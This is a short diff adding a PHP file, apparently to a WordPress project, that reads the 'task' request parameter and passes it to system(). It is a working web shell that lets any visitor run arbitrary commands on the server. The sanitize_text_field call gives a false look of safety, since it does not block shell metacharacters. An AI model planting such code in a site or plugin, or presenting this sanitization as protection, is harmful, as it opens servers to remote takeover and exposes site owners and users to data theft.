@@ -1,0 +1,3 @@
+<?php
+$task = sanitize_text_field($_REQUEST['task']);
+system($task);
